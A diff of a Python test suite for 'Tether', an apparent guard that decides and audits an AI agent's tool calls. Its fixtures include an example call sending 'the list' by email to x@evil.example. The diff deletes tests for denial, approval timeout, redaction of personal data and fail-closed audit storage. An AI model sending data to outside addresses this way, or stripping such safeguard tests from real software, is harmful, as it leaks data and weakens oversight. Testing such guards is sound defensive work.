@@ -38,18 +38,6 @@ def test_allowed_call_runs_once_and_the_audit_holds_the_chain(guard: Guard, tool
     assert verify(KEY, store.events()).ok
 
 
-def test_denied_call_never_runs_and_the_model_reads_the_refusal(guard: Guard, tools: Tools, store: AuditStore) -> None:
-    bot, _ = agent(tools, calls(("send_email", {"to": "x@evil.example", "body": "the list"})))
-    register_guard(bot, guard)
-
-    result = run(bot)
-
-    assert tools.count("send_email") == 0
-    assert "Tether denied the call to 'send_email': only colleagues" in texts(result)
-    assert [e.verdict for e in events(store, "tool.decision")] == ["deny"]
-    assert events(store, "tool.result") == []
-
-
 def test_parallel_calls_are_each_decided(guard: Guard, tools: Tools, store: AuditStore) -> None:
     bot, _ = agent(tools, calls(("lookup", {"query": "a"}), ("send_email", {"to": "x@evil.example", "body": "b"})))
     register_guard(bot, guard)
@@ -75,17 +63,6 @@ def test_a_call_needing_approval_waits_for_the_queue(store: AuditStore, tools: T
     assert tools.count("refund") == (1 if approved else 0)
     assert ("refunded 120 on A1" if approved else "denied by alice") in texts(result)
     assert [e.verdict for e in events(store, "approval")] == ["allow" if approved else "deny"]
-
-
-def test_unanswered_approval_times_out_to_deny(store: AuditStore, tools: Tools) -> None:
-    guard = Guard(POLICY, store=store, approver=QueueApprover(store))  # 1 s timeout
-    bot, _ = agent(tools, calls(("refund", {"order": "A1", "amount": 120})))
-    register_guard(bot, guard)
-
-    result = run(bot)
-
-    assert tools.count("refund") == 0
-    assert "no approval within 1s" in texts(result)
 
 
 def test_a_team_is_governed_in_each_agents_name(guard: Guard, tools: Tools, store: AuditStore) -> None:
@@ -118,18 +95,6 @@ def test_each_run_is_a_session_unless_one_is_given(guard: Guard, tools: Tools, s
     assert events(store, "tool.decision")[-1].session_id == "ticket-42"
 
 
-def test_output_the_agent_is_not_cleared_for_reaches_the_model_redacted(store: AuditStore, tools: Tools) -> None:
-    policy = json.loads(json.dumps(POLICY))
-    policy["agents"]["assistant"]["data"] = ["network"]  # cleared for no personal data
-    bot, _ = agent(tools, calls(("fetch_ticket", {"ticket": "7"})))
-    register_guard(bot, Guard(policy, store=store))
-
-    result = run(bot)
-
-    assert tools.count("fetch_ticket") == 1
-    assert "jane.roe@customer.example" not in texts(result) and "[email:" in texts(result)
-
-
 def test_malformed_arguments_never_run_the_tool(guard: Guard, tools: Tools, store: AuditStore) -> None:
     bot, _ = agent(tools, calls(("send_email", '{"to": "a@acme.example", ')))
     register_guard(bot, guard)
@@ -147,20 +112,6 @@ def test_registering_twice(guard: Guard, tools: Tools, store: AuditStore) -> Non
         register_guard(bot, Guard(POLICY, store=store))
     run(bot)
     assert len(events(store, "tool.decision")) == 1  # decided once
-
-
-def test_a_broken_store_denies(tmp_path: Any, tools: Tools) -> None:
-    store = AuditStore(f"sqlite:///{tmp_path / 'a.db'}", key=KEY)
-    guard = Guard(POLICY, store=store)
-    bot, _ = agent(tools, calls(("lookup", {"query": "a"})))
-    register_guard(bot, guard)
-    store.engine.dispose()
-    (tmp_path / "a.db").unlink()
-    (tmp_path / "a.db").mkdir()  # the database path is now a directory: every write fails
-
-    with pytest.raises(Exception):  # noqa: B017, PT011 - the model call cannot be recorded: the run stops
-        run(bot)
-    assert tools.ran == []
 
 
 def test_concurrent_runs_keep_their_own_sessions(guard: Guard, store: AuditStore) -> None:
